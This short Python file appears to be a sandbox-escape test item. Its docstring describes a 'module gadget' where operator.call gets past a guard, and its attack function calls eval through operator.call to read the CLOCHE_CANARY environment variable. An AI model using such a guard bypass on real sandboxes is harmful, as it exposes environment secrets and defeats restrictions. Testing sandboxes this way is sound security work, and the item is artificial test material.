"""Class: module gadget. Source: Python 3.11. Escape: operator.call calls past the guard."""

import operator


def attack(model, tokenizer, address):
    return operator.call(eval, "__import__('os').environ['CLOCHE_CANARY']")
